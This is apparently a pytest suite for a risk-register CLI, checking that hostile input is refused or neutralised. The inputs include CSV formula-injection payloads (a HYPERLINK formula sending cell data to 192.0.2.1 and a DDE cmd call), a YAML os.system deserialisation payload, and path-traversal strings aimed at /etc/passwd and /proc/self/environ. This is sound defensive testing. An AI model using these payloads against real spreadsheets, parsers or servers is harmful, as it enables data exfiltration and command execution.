"""Hostile input at every edge: formula injection in CSV exports, megabyte strings, wrong types,
malformed YAML, JSON and CSV, path traversal. Each is a clear error; nothing is written or archived."""

from __future__ import annotations

import csv
from datetime import date, datetime, timezone

import pytest
from click.testing import CliRunner

from keys import nothing_archived
from workbench.cli import main
from workbench.exceptions import InputError
from workbench.records.export import export_csv, neutralise
from workbench.pipeline.run import run_process

FORMULAS = ["=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            "=cmd|' /C calc'!A0"]


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_become_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "", "'=already quoted", "a=b", "R1", 5, -5, 2.5, None, ["=x"]])
def test_other_cells_are_kept(value):
    assert neutralise(value) == value


def register_risks(workspace, titles: list[str]) -> str:
    run_id = "ra-20261127T174501Z-3f9a1c"
    workspace.register.record_evidence(
        {"run_id": run_id, "process": "risk-assessment", "system_id": "credit-scoring", "period": "2026-Q4",
         "effective_date": date(2026, 11, 27), "assessor": "amara", "status": "submitted",
         "recorded_at": datetime.now(timezone.utc), "path": "x", "answers_sha256": "0" * 64,
         "workbench_version": "0", "error": None},
        {"risks": [{"risk_id": f"R{i}", "title": t, "risk_source": "C.3.1", "inherent_score": 12,
                    "inherent_band": "High", "residual_score": -1 if i == 0 else 4, "residual_band": "Low",
                    "treatment": "mitigate", "owner": "amara", "due_date": date(2027, 1, 1),
                    "above_appetite": False, "controls": ["A.6.2.4"]} for i, t in enumerate(titles)]})
    return run_id


def test_export_csv_neutralises_every_formula(workspace, tmp_path):
    register_risks(workspace, FORMULAS + ["Plain title"])
    out = tmp_path / "risks.csv"
    result = invoke("export", "risks", "--csv", out, "-w", workspace.root)
    assert result.exit_code == 0, result.output
    assert f"{len(FORMULAS) + 1} rows of risks written" in result.output
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["title"] for r in rows] == ["'" + f for f in FORMULAS] + ["Plain title"]
    assert rows[0]["residual_score"] == "-1"  # a number stays a number
    assert rows[0]["controls"] == "A.6.2.4"  # a list is text a person reads, not "['A.6.2.4']"
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for k, v in row.items() if k != "residual_score")


def test_export_every_table_and_refuse_unknown_ones(workspace, tmp_path):
    from workbench.processes import process_tables
    from workbench.register import CORE_TABLES

    run_id = register_risks(workspace, ["First", "Second"])
    counts = {"systems": 3, "evidence": 1, "risks": 2}
    for table, model in {**CORE_TABLES, **process_tables()}.items():
        written = export_csv(workspace, table, tmp_path / f"{table}.csv")
        with open(tmp_path / f"{table}.csv", newline="", encoding="utf-8") as handle:
            header, *rows = list(csv.reader(handle))
        assert header == list(model.__table__.columns.keys()), table
        assert written == len(rows) == counts.get(table, 0), table
    with open(tmp_path / "risks.csv", newline="", encoding="utf-8") as handle:
        assert [(r["run_id"], r["title"]) for r in csv.DictReader(handle)] == [(run_id, "First"), (run_id, "Second")]
    result = invoke("export", "../register", "--csv", tmp_path / "x.csv", "-w", workspace.root)
    assert result.exit_code == 2 and "table: unknown table; allowed: systems, items, evidence," in result.output
    assert "(got '../register')" in result.output
    assert not (tmp_path / "x.csv").exists()


# answers at the edges ----------------------------------------------------------------------------

MEGABYTE = "x" * 1_000_000


@pytest.mark.parametrize("path, limit", [(("scope",), 10_000), (("risks", 0, "title"), 200),
                                         (("risks", 0, "description"), 10_000), (("risks", 0, "rationale"), 10_000),
                                         (("risks", 0, "affected_parties", 0), 200), (("risks", 0, "owner"), 64)])
def test_megabyte_strings_are_refused_by_length(workspace, answers, path, limit):
    target = answers
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = MEGABYTE
    with pytest.raises(InputError) as caught:
        run_process(workspace, "risk-assessment", "credit-scoring", answers, assessor="amara")
    message = str(caught.value)
    assert str(limit) in message and len(message) < 2_000  # the value is shown cut short, not a megabyte
    assert nothing_archived(workspace)


@pytest.mark.parametrize("change, field, rule", [
    (lambda a: a.update(risks="R1"), "risks", "must be a list"),
    (lambda a: a.update(scope=["x"]), "scope", "must be text"),
    (lambda a: a["risks"][0].update(inherent_likelihood="high"), "risks[0].inherent_likelihood", "whole number"),
    (lambda a: a["risks"][0].update(inherent_likelihood=3.5), "risks[0].inherent_likelihood", "whole number"),
    (lambda a: a["risks"][0].update(inherent_likelihood=True), "risks[0].inherent_likelihood", "not true or false"),
    (lambda a: a["risks"][0].update(due_date=20270101), "risks[0].due_date", "YYYY-MM-DD"),
    (lambda a: a["risks"][0].update(treatment={"$gt": ""}), "risks[0].treatment",
     "'avoid', 'mitigate', 'share' or 'accept'"),
    (lambda a: a["risks"][0].update(affected_parties=None), "risks[0].affected_parties", "must be a list"),
])
def test_wrong_types_name_the_field(workspace, answers, change, field, rule):
    change(answers)
    with pytest.raises(InputError) as caught:
        run_process(workspace, "risk-assessment", "credit-scoring", answers, assessor="amara")
    assert any(p.field == field and rule in p.message for p in caught.value.problems), str(caught.value)
    assert nothing_archived(workspace)


@pytest.mark.parametrize("content, suffix, says", [
    ("a: &a [x, x]\nb: [*a, *a, *a]\n", ".yaml", "aliases (*name) are not allowed"),
    ("scope: [unclosed\n", ".yaml", "is not valid YAML"),
    ("!!python/object/apply:os.system ['echo hacked']\n", ".yaml", "is not valid YAML"),
    ('{"scope": "x", "risks": [}', ".json", "is not valid JSON"),
    ('{"scope": NaN}', ".json", "must be a finite number"),
    ("[" * 100_000 + "]" * 100_000, ".json", "is nested too deeply to be answers"),
    ("[[1]]", ".json", "must be a mapping"),
    ('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}", ".json", "nested too deeply"),
])
def test_malformed_answer_files(workspace, tmp_path, content, suffix, says):
    path = tmp_path / f"answers{suffix}"
    path.write_text(content, encoding="utf-8")
    result = invoke("run", "risk-assessment", "--system", "credit-scoring", "--answers", path, "--assessor", "amara",
                    "-w", workspace.root)
    assert result.exit_code == 2, result.output
    assert says in result.output
    assert nothing_archived(workspace)


def test_answers_that_are_not_a_regular_file(workspace, tmp_path):
    for source in ("/dev/zero", tmp_path, "/proc/self/environ"):
        result = invoke("run", "risk-assessment", "--system", "credit-scoring", "--answers", source, "-w", workspace.root)
        assert result.exit_code == 2, (source, result.output)
    (tmp_path / "binary.yaml").write_bytes(b"\xff\xfe\x00garbage")
    result = invoke("run", "risk-assessment", "--system", "credit-scoring", "--answers", tmp_path / "binary.yaml",
                    "-w", workspace.root)
    assert result.exit_code == 2 and "not UTF-8" in result.output


@pytest.mark.parametrize("content, says", [
    ('id,name\n"unclosed,x\n', "systems[0].id: must be a safe slug"),  # the quote runs to the end of the file
    ("\x00\x01\x02", "file: holds no systems: a header row, then one row per system"),
    ("id,name,owner,purpose,lifecycle_stage,deployment_context,affected_stakeholders,tier\n"
     "../../etc,N,amara,P,deployment,C,s,low\n", "safe slug"),
    ("id,name,owner,purpose,lifecycle_stage,deployment_context,affected_stakeholders,tier\n"
     "=cmd,N,amara,P,deployment,C,s,low\n", "safe slug"),
])
def test_malformed_system_csv(workspace, tmp_path, content, says):
    path = tmp_path / "systems.csv"
    path.write_text(content, encoding="utf-8")
    result = invoke("system", "import", path, "-w", workspace.root)
    assert result.exit_code == 2, result.output
    assert says in result.output
    assert [s.id for s in workspace.register.systems()] == ["credit-scoring", "cv-screening", "support-assistant"]


def test_a_broken_configuration_is_a_clear_error(workspace):
    config = workspace.root / "workbench.yaml"
    config.write_text("people: [unclosed\n", encoding="utf-8")
    result = invoke("config", "record", "-w", workspace.root, "-m", "broken", "--as", "priya")
    assert result.exit_code == 2 and "is not valid YAML" in result.output


SLUG = "must be a safe slug"
RUN_ID = "must be a run id"


@pytest.mark.parametrize("args, refusal", [
    (("run", "risk-assessment", "--system", "../../tmp/x", "--answers", "{}"), f"system: {SLUG}"),
    (("run", "risk-assessment", "--system", "credit-scoring/../../x", "--answers", "{}"), f"system: {SLUG}"),
    (("system", "show", "../credit-scoring"), "system: is not a registered AI system"),
    (("evidence", "show", "../../../etc/passwd"), f"run_id: {RUN_ID}"),
    (("signoff", "approve", "../ra-20261127T174501Z-3f9a1c", "--comment", "x", "--as", "david"), f"run_id: {RUN_ID}"),
    (("signoff", "approve", "ra-20261127T174501Z-3f9a1c", "--comment", "x", "--as", "../david"), f"person: {SLUG}"),
    (("notebook", "risk-assessment", "--system", "../../x"), f"system: {SLUG}"),
    (("form", "risk-assessment", "--system", "../../x", "--no-browser"), f"system: {SLUG}"),  # before Voilà starts
])
def test_path_traversal_is_refused_and_nothing_is_written(workspace, tmp_path, args, refusal):
    before = sorted(p for p in tmp_path.rglob("*"))
    result = invoke(*args, "-w", workspace.root)
    assert result.exit_code == 2, result.output
    traversal = next(a for a in args if "../" in a)
    assert result.output.startswith(f"error: {refusal}") and f"(got {traversal!r})" in result.output, result.output
    assert sorted(p for p in tmp_path.rglob("*")) == before
    assert nothing_archived(workspace)


def test_a_workspace_path_that_is_not_a_workspace(tmp_path):
    for path in (tmp_path / ".." / ".." / "etc", tmp_path / "nope"):
        result = invoke("evidence", "list", "-w", path)
        assert result.exit_code == 2 and "is not a workspace" in result.output
    assert not (tmp_path / "nope").exists()
